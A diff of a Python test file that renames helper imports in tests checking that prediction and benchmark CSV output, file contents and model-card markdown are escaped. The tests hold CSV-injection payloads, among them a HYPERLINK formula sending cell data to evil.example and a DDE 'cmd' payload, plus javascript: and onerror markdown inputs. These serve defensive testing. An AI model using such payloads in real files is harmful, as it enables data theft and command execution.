@@ -12,12 +12,12 @@ from typing import Any
 
 import pytest
 
-from m3b.bench.render import as_csv
+from m3b.bench.render import to_csv
 from m3b.bench.tables import ResultTable
-from m3b.cli.predicting import _write
-from m3b.models.card_figures import escaped
-from m3b.models.exporting.metadata import as_data, metadata
-from m3b.writing import csv_cell, inert, json_text, one_line
+from m3b.cli.predicting import _write_entries
+from m3b.models.card_figures import escape_markdown
+from m3b.models.exporting.metadata import as_data, make_metadata
+from m3b.writing import csv_cell, escape_control_codes, json_text, to_one_line
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"ok")', "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1",
             "＝1+1", "－1＋2"]  # fmt: skip
@@ -70,7 +70,7 @@ def test_monai_reads_a_class_name_as_a_text(tmp_path: Path, name: str, monkeypat
         },
     }
     state = {"inputs": [[1, 1, 8, 8]], "outputs": [[1, 2]]}
-    written = metadata(facts, state, name)
+    written = make_metadata(facts, state, name)
     assert written["classes"][0].replace(" ", "") == name.replace(" ", "")
     read = parse(json.loads(json.dumps(written)))
     colons = [json.dumps(content).replace("#", "::") for content in (read, written)]  # MONAI writes :: for #
@@ -127,7 +127,7 @@ def prediction(image: str, name: str) -> dict[str, Any]:
 
 @pytest.mark.parametrize("text", FORMULAS)
 def test_no_cell_of_predictions_is_a_formula(tmp_path: Path, text: str) -> None:
-    _write([prediction(text, text)], tmp_path / "x.csv")
+    _write_entries([prediction(text, text)], tmp_path / "x.csv")
     with (tmp_path / "x.csv").open(newline="", encoding="utf-8") as file:
         head, row = list(csv.reader(file))
     cells = [cell for cell in (*head, *row) if not re.fullmatch(r"-?[\d.]+", cell)]
@@ -151,7 +151,7 @@ def test_cells(value: object, cell: object) -> None:
 @pytest.mark.parametrize("text", FORMULAS)
 def test_no_cell_of_a_benchmark_is_a_formula(text: str) -> None:
     table = ResultTable("x", "X", ("model", "change"), ((text, "-0.5"),), ())
-    assert list(csv.reader(io.StringIO(as_csv(table))))[1] == [csv_cell(text), "-0.5"]
+    assert list(csv.reader(io.StringIO(to_csv(table))))[1] == [csv_cell(text), "-0.5"]
     assert csv_cell(text).startswith("'")
 
 
@@ -159,16 +159,16 @@ def test_no_cell_of_a_benchmark_is_a_formula(text: str) -> None:
 @pytest.mark.parametrize("ending", [".csv", ".json"])
 def test_control_codes_and_odd_bytes_are_escaped_in_files(tmp_path: Path, name: str, ending: str) -> None:
     file = tmp_path / f"x{ending}"
-    _write([prediction(f"{name}.png", name)], file)
+    _write_entries([prediction(f"{name}.png", name)], file)
     text = file.read_text(encoding="utf-8")
-    assert not [sign for sign in text if sign != "\r" and inert(sign) != sign]
+    assert not [sign for sign in text if sign != "\r" and escape_control_codes(sign) != sign]
     if ending == ".json":
         assert json.loads(text) == [prediction(f"{name}.png", name)], "the name is still that of the file"
 
 
 @pytest.mark.parametrize("name", NAMES)
 def test_control_codes_are_escaped_in_lines_and_cards(name: str) -> None:
-    for text in (one_line(name), inert(name), escaped(name), json_text(name)):
+    for text in (to_one_line(name), escape_control_codes(name), escape_markdown(name), json_text(name)):
         assert text.isprintable()
         text.encode()
 
@@ -177,4 +177,4 @@ def test_control_codes_are_escaped_in_lines_and_cards(name: str) -> None:
     "text", ["[a](javascript:x)", "<img src=x onerror=y>", "![a](http://evil.example)", "a | b", "`x`", "# x"]
 )
 def test_markdown_of_cards_is_escaped(text: str) -> None:
-    assert not re.search(r"(?<!\\)[\\`*_\[\]<>|#](?![\\`*_\[\]<>|#])", escaped(text))
+    assert not re.search(r"(?<!\\)[\\`*_\[\]<>|#](?![\\`*_\[\]<>|#])", escape_markdown(text))
